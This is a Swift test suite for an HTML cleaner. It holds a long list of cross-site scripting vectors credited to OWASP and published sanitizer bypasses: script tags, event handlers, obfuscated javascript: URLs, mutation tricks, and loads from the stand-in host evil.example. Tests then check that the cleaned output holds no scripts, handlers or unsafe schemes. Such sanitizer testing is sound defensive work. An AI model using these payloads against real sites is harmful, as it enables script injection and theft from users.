import HTMLCleaning
import HTMLWriting
import HTMLReading
import Testing

/// What people have written to run scripts in readers, and must come to nothing.
///
/// Sources: OWASP's cheat sheet of filter evasion; published bypasses of DOMPurify, of sanitize-html
/// and of others by mutation, in the words of their write-ups.
@Suite struct `Hostile HTML` {
  static let vectors: [String] = [
    "<script>alert(1)</script>",
    "<p title=\"&#7;\">&#8;&#x7F;&#x81;&#xFDD0;&#x1FFFE;&#xFFFF;</p>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"https://a.example/x\"onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img srcset=\"javascript:alert(1) 1x, x onerror=alert(1) 2x\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" \t\n javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\u{0}script:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://x/1\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=x style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<iframe src=https://www.youtube.com/embed/aaaaaaaaaaa onload=alert(1) srcdoc=x></iframe>",
    "<iframe src=\"https://www.youtube.com/embed/../../redirect?q=https://evil.example\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><img src=x onerror=alert(1)></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math></p><style><!--</style><img src/onerror=alert(1)>--></style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<math><mi><svg><desc><math><mi><style><!--</style><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<noframes><img title=\"</noframes><img src onerror=alert(1)>\"></noframes>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
    "<xmp><img title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<style><img title=\"</style><img src onerror=alert(1)>\"></style>",
    "<select><iframe></select><img src onerror=alert(1)>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
    "<table><tr><td><style></td></tr></table><img src onerror=alert(1)></style>",
    "<table><img src=x onerror=alert(1)><tr><td>x</table>",
    "<a href=\"https://x.example/\"><table><a href=javascript:alert(1)>x</a></table></a>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y \"<script>\">]>&y;",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=javascript:alert(1)//><a href=x>x</a>",
    "<body onload=alert(1)>", "<body background=javascript:alert(1)>",
    "<video src=x onerror=alert(1)><source src=javascript:alert(1) onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=https://a.example/v.mp4></video>",
    "<audio src=https://a.example/a.mp3 onloadstart=alert(1) autoplay></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<div style=\"width:expression(alert(1))\" onmouseover=alert(1)>x</div>",
    "<div id=x tabindex=0 autofocus onfocus=alert(1)>x</div>",
    "<img name=body><form id=cookie><input name=attributes>",
    "<a id=location href=https://x.example/ name=defaultView>x</a>",
    "<x onclick=alert(1)>x</x>", "<x-y is=script onclick=alert(1)>x</x-y>",
    "<button popovertarget=x><img src=x onerror=alert(1)></button><div popover id=x onbeforetoggle=alert(1)>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p title=\"&quot;><img src=x onerror=alert(1)>\">x</p>",
    "<div title=\"</div><script>alert(1)</script>\">",
    "<input type=image src=x onerror=alert(1)><keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=javascript:alert(1)></portal><fencedframe src=x></fencedframe>",
    "<img usemap=#m src=https://a.example/x.png><map name=m><area href=javascript:alert(1)></map>",
    "<ruby><rt><iframe onload=alert(1)></rt></ruby>",
    "<a href=\"https://x.example/\" target=_top rel=opener ping=//evil.example/>x</a>",
    "<img src=\"https://a.example/x.png?a=1&quot;onerror=alert(1)\">",
    "<img alt=\"<x\" title=\"/><img src=url404 onerror=xss(0)>\" src=https://a.example/y.png>",
    "<div><div><b><p></b></div><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<svg><p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<form><div></form><form><select><style><!--</style><img src onerror=alert(1)>",
    "\u{FFFE}<script>alert(1)</script>",
  ]

  static let cleaner = HTMLCleaner(base: "https://site.example/post")

  @Test(arguments: vectors)
  func `comes to nothing`(_ html: String) throws {
    let cleaned = Self.cleaner.clean(html)
    try expectHarmless(cleaned.text)
  }

  @Test(arguments: vectors)
  func `is clean for good`(_ html: String) {
    let once = Self.cleaner.clean(html)
    #expect(Self.cleaner.clean(once.bytes) == once)
  }

  @Test func `hides in no other place of a longer text`() throws {
    let html = Self.vectors.joined(separator: "\n")
    let once = Self.cleaner.clean(html)
    try expectHarmless(once.text)
    #expect(Self.cleaner.clean(once.bytes) == once)
  }

  @Test func `whose nesting no parser can stand gives its text`() throws {
    let html = String(repeating: "<div><b>", count: 60_000) + "the text &amp; more"
    let text = Self.cleaner.clean(html).text
    #expect(text.contains("the text &amp; more"))
    #expect(text.utf8.count < 200_000)
  }
}

/// Parses what was cleaned as a browser would, and looks at everything in it.
func expectHarmless(_ html: String, sourceLocation: SourceLocation = #_sourceLocation) throws {
  let tree = try HTMLTree(content: Array(html.utf8))
  for id in tree.nodes.indices {
    guard let element = tree.element(id) else { continue }
    #expect(
      !["script", "style", "svg", "form", "input", "object", "embed", "base", "meta", "link"]
        .contains(element.name),
      "\(element.name) in \(html)",
      sourceLocation: sourceLocation
    )
    for attribute in tree.attributes[element.attributes] {
      #expect(!attribute.name.hasPrefix("on"), "\(html)", sourceLocation: sourceLocation)
      #expect(
        !["style", "srcdoc", "action", "formaction", "ping", "xlink:href", "class", "background"]
          .contains(attribute.name),
        "\(html)",
        sourceLocation: sourceLocation
      )
      if ["href", "src", "poster", "cite"].contains(attribute.name) {
        let allowed = ["http://", "https://", "mailto:", "#item-", "data:image/"]
        #expect(
          allowed.contains { attribute.value.hasPrefix($0) },
          "\(attribute.value) in \(html)",
          sourceLocation: sourceLocation
        )
        #expect(!attribute.value.hasPrefix("data:image/svg"), sourceLocation: sourceLocation)
      }
      if attribute.name == "id" {
        #expect(attribute.value.hasPrefix("item-"), sourceLocation: sourceLocation)
      }
    }
  }
}
